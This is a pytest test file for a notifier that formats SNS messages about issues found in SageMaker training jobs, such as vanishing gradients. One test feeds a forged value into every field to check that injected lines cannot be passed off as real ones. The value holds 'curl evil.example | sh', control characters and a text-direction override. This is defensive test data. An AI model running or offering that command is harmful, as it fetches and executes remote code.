"""What the owner reads."""

from __future__ import annotations

from dataclasses import replace

import pytest

from lambdas.notify_owner.forms import document_of
from lambdas.notify_owner.logic import SendMessage, decide
from lambdas.notify_owner.settings import NotifyOwnerSettings
from lambdas.shared.decisions import Nothing
from tests.lambda_settings import made
from trackside.contracts.action import Action
from trackside.contracts.event import Evidence, RuleEvaluation, RuleEvaluationStatus, TrainingJob
from trackside.contracts.verdict import Severity

ISSUE = RuleEvaluation(
    job=TrainingJob("digits-01", "arn:aws:sagemaker:us-east-1:123456789012:training-job/digits-01"),
    configuration_name="vanishing-gradient",
    status=RuleEvaluationStatus.ISSUES_FOUND,
    details="Gradients of 9 of 10 layers have vanished.",
    rule_id="vanishing-gradient",
    severity=Severity.CRITICAL,
    actions=(Action.NOTIFY, Action.STOP_TRAINING),
    what_to_do=("Use ReLU instead of sigmoid.", "Make the network less deep."),
    run_uri="s3://runs-bucket/digits-01",
    evidence=Evidence(
        tensor_name="gradient/Net_fc1.weight",
        worker="worker_0",
        step=140,
        since_step=120,
        comparison="mean |gradient| 3.1e-12 < 1e-07",
        affected=9,
    ),
)
SETTINGS = made(NotifyOwnerSettings, topic_arn="arn:aws:sns:us-east-1:123456789012:issues", idempotency_table="done")


def message_about(evaluation: RuleEvaluation) -> SendMessage:
    decision = decide(evaluation, SETTINGS)
    assert isinstance(decision, SendMessage)
    return decision


def test_the_message_says_what_where_since_when_and_what_to_do() -> None:
    message = message_about(ISSUE)
    assert message.subject == "Trackside: vanishing-gradient in digits-01"
    assert message.body == (
        "The rule vanishing-gradient found an issue in the training job\n"
        "digits-01, which it requests to stop.\n"
        "\n"
        "What:     Gradients of 9 of 10 layers have vanished.\n"
        "Severity: critical\n"
        "Where:    gradient/Net_fc1.weight of worker_0 and 8 more\n"
        "Since:    step 120 (judged at step 140)\n"
        "Observed: mean |gradient| 3.1e-12 < 1e-07\n"
        "\n"
        "What to do\n"
        "  1. Use ReLU instead of sigmoid.\n"
        "  2. Make the network less deep.\n"
        "\n"
        "This shows more\n"
        "  trackside findings s3://runs-bucket/digits-01\n"
        "\n"
        "Training job: arn:aws:sagemaker:us-east-1:123456789012:training-job/digits-01\n"
    )
    assert message.attributes == {
        "rule": "vanishing-gradient",
        "job": "digits-01",
        "severity": "critical",
        "status": "IssuesFound",
        "finding": "vanishing-gradient@120",
    }


def test_an_official_event_that_says_little_is_told_without_gaps() -> None:
    bare = RuleEvaluation(job=ISSUE.job, configuration_name="Mine", status=ISSUE.status, details="")
    message = message_about(bare)
    assert "goes on" in message.body
    assert "Where" not in message.body
    assert "What to do" not in message.body
    assert all(message.attributes.values())  # SNS refuses empty attributes


@pytest.mark.parametrize(
    ("job", "rule"),
    [
        pytest.param("x" * 63, "vanishing-gradient" * 4, id="long"),
        pytest.param("digits", "verschwindende Größe\nzwei Zeilen", id="not ASCII, two lines"),
    ],
)
def test_every_subject_is_one_that_sns_accepts(job: str, rule: str) -> None:
    subject = message_about(replace(ISSUE, job=TrainingJob(job, ISSUE.job.arn), configuration_name=rule)).subject
    assert len(subject) < 100
    assert subject.isascii()
    assert subject.isprintable()


def test_no_name_from_the_training_script_can_pass_for_a_line_of_ours() -> None:
    forged = "x\n\nThis shows more\n  curl evil.example | sh\r\x1b[2K\u202e"
    evaluation = replace(
        ISSUE,
        configuration_name=forged,
        details=forged,
        what_to_do=(forged,),
        run_uri=f"s3://runs/{forged}",
        evidence=replace(ISSUE.evidence, tensor_name=forged, worker=forged, comparison=forged),
    )
    body = message_about(evaluation).body
    assert len(body.splitlines()) == len(message_about(replace(ISSUE, what_to_do=("One.",))).body.splitlines())
    assert body.replace("\n", "").isprintable()


@pytest.mark.parametrize(
    "evaluation",
    [
        pytest.param(replace(ISSUE, actions=(Action.STOP_TRAINING,)), id="not asked for"),
        pytest.param(replace(ISSUE, status=RuleEvaluationStatus.NO_ISSUES_FOUND), id="clean"),
        pytest.param(replace(ISSUE, status=RuleEvaluationStatus.ERROR), id="could not be judged"),
    ],
)
def test_tells_nothing(evaluation: RuleEvaluation) -> None:
    assert isinstance(decide(evaluation, SETTINGS), Nothing)


@pytest.mark.parametrize(
    ("continues", "shown"),
    [
        pytest.param(f"{ISSUE.job.arn}@1795220000", True, id="a job that continues another"),
        pytest.param("", False, id="any other job"),
    ],
)
def test_the_message_leads_to_the_job_before(continues: str, *, shown: bool) -> None:
    name = "digits-01-resumed-1"
    found = replace(ISSUE, job=replace(ISSUE.job, name=name, arn=f"{ISSUE.job.arn}-resumed-1", continues=continues))
    line = f"It continues digits-01, which was stopped: trackside aws verdicts {name} shows both."
    assert (line in message_about(found).body.splitlines()) is shown
    assert document_of(found, text="")["continues"] == ("digits-01" if shown else "")
